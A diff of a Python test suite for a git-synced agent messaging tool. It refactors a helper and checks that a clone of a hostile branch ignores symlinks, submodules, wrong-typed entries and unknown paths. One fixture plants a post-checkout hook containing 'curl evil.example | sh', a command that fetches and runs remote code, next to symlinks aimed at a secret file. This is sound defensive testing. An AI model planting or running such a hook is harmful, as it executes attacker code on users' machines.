@@ -12,24 +12,11 @@ from __future__ import annotations
 import threading
 import time
 
-from hostile_helpers import entries_under, links_under
+from hostile_helpers import entries_under, links_under, team_with_history
 from thrum.events import is_log_path
 
 REG, EXEC, LINK, GITLINK, TREE = 0o100644, 0o100755, 0o120000, 0o160000, 0o40000
 SEND_PROMPTLY_S = 3.0  # generous on a busy machine (measured: under 0.7 s); the old code: 15-19 s
-
-
-def _team_with_history(team):
-    t = team(2)
-    a, b = t.machines
-    a.agent("alice", "implementer")
-    b.agent("bob", "reviewer")
-    a.sync()
-    b.sync()
-    b.run("send", "hello alice", "--to", "@alice", agent="bob")
-    b.sync()
-    a.sync()
-    return t, a, b
 
 
 def _only_log_files(m) -> None:
@@ -85,7 +72,7 @@ def _in_inbox_once(machine, texts: list[str]) -> None:
 
 
 def test_ten_thousand_junk_files_never_stall_a_send_and_are_never_written(team):
-    t, a, b = _team_with_history(team)
+    t, a, b = team_with_history(team)
     junk: dict[str, tuple[int, bytes]] = {}
     for i in range(6000):
         junk[f"messages/m{i}.jsonl"] = (REG, b'{"event_id":"%d"}\n' % i)  # the old single-file layout
@@ -112,7 +99,7 @@ def test_ten_thousand_junk_files_never_stall_a_send_and_are_never_written(team):
 
 
 def test_fifty_thousand_small_files_keep_the_writer_answering(team):
-    t, a, b = _team_with_history(team)
+    t, a, b = team_with_history(team)
     files: dict[str, tuple[int, bytes]] = {}
     for i in range(45_000):
         files[f"messages/bob/x{i}"] = (REG, b"%d\n" % i)
@@ -139,22 +126,25 @@ def test_fifty_thousand_small_files_keep_the_writer_answering(team):
 def test_a_fresh_clone_attaching_to_a_hostile_branch_materialises_only_log_files(team, tmp_path):
     secret = tmp_path / "secret.txt"
     secret.write_text("TOP-SECRET\n")
-    t, a, b = _team_with_history(team)
+    t, a, b = team_with_history(team)
     commit = t.attacker()._git("rev-parse", "HEAD").strip().encode()
-    t.attacker().push_entries({
-        "messages/carol/000001.jsonl": (LINK, str(secret).encode()),   # a link at a log path
-        "messages/eve": (LINK, b"/tmp"),                               # a linked stream directory
-        "vendor": (GITLINK, commit),                                   # submodules
-        "messages/sub": (GITLINK, commit),
-        "messages/dave/000001.jsonl": (0o100664, b'{"odd":"mode"}\n'),   # an odd mode at a log path
-        "events/000002.jsonl/inner": (REG, b"a directory where a file belongs\n"),
-        "receipts": (REG, b"a file where a directory belongs\n"),
-        "README.md": (REG, b"# hi\n"),                                 # unknown paths
-        "messages/alice/notes.txt": (REG, b"notes\n"),
-        "messages/alice/000002.jsonl.orig": (REG, b"x\n"),
-        "messages/frank/000001.jsonl": (EXEC, b'{"exec":"bit"}\n'),    # an executable file is a regular one
-        "hooks/post-checkout": (EXEC, b"#!/bin/sh\ncurl evil.example | sh\n"),
-    }, "a hostile tree")
+    t.attacker().push_entries(
+        {
+            "messages/carol/000001.jsonl": (LINK, str(secret).encode()),  # a link at a log path
+            "messages/eve": (LINK, b"/tmp"),  # a linked stream directory
+            "vendor": (GITLINK, commit),  # submodules
+            "messages/sub": (GITLINK, commit),
+            "messages/dave/000001.jsonl": (0o100664, b'{"odd":"mode"}\n'),  # an odd mode at a log path
+            "events/000002.jsonl/inner": (REG, b"a directory where a file belongs\n"),
+            "receipts": (REG, b"a file where a directory belongs\n"),
+            "README.md": (REG, b"# hi\n"),  # unknown paths
+            "messages/alice/notes.txt": (REG, b"notes\n"),
+            "messages/alice/000002.jsonl.orig": (REG, b"x\n"),
+            "messages/frank/000001.jsonl": (EXEC, b'{"exec":"bit"}\n'),  # an executable file is a regular one
+            "hooks/post-checkout": (EXEC, b"#!/bin/sh\ncurl evil.example | sh\n"),
+        },
+        "a hostile tree",
+    )
 
     c = t.fresh_clone("c")
     assert links_under(c.worktree) == []
@@ -163,11 +153,12 @@ def test_a_fresh_clone_attaching_to_a_hostile_branch_materialises_only_log_files
     assert not (c.worktree / "vendor").exists() and not (c.worktree / "hooks").exists()
     assert not (c.worktree / "messages" / "dave").exists()
     status = c.json("sync", "status")
-    assert status["ignored_paths_by_reason"] == {
-        "symlink": 2, "submodule": 2, "wrong_type": 3, "unknown_path": 4}
+    assert status["ignored_paths_by_reason"] == {"symlink": 2, "submodule": 2, "wrong_type": 3, "unknown_path": 4}
     text = c.run("sync", "status").stdout
-    assert "Ignored:       11 path(s) in a-sync that are not thrum's (2 submodule, 2 symlink, 4 unknown path, " \
-           "3 wrong type)" in text
+    assert (
+        "Ignored:       11 path(s) in a-sync that are not thrum's (2 submodule, 2 symlink, 4 unknown path, "
+        "3 wrong type)" in text
+    )
     # The clone works normally, and its sync leaves the junk in the tree untouched.
     c.agent("carol", "tester")
     c.run("send", "carol is here", "--to", "@alice", agent="carol")
